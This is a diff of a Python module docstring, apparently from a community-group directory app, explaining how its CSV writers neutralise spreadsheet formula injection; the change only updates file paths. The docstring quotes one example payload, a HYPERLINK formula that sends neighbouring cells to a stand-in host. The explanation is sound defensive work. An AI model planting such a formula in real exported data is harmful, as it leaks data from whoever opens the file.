@@ -4,12 +4,12 @@ A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a
 carriage return before one) as a formula: `=HYPERLINK("http://evil.example/?leak="&A1,"x")`
 in a group's name would leak the neighbouring cells when an editor or an open-data reader
 opens the file. The writers below put an apostrophe before every such text cell, as the
-spreadsheets do themselves; the groups' import (cells.py) takes it off again, so an exported
-file imports back unchanged.
+spreadsheets do themselves; the groups' import (directory/csv/importer.py) takes it off
+again, so an exported file imports back unchanged.
 
 Use `writer()` / `DictWriter` here instead of the standard library's: the groups' export
-(export.py), the public open-data CSV (directory/views.py) and the subscribers' export
-(newsletter/admin.py) all do.
+(directory/csv/export.py), the public open-data CSV (directory/views.py) and the
+subscribers' export (newsletter/admin.py) all do.
 """
 
 import csv
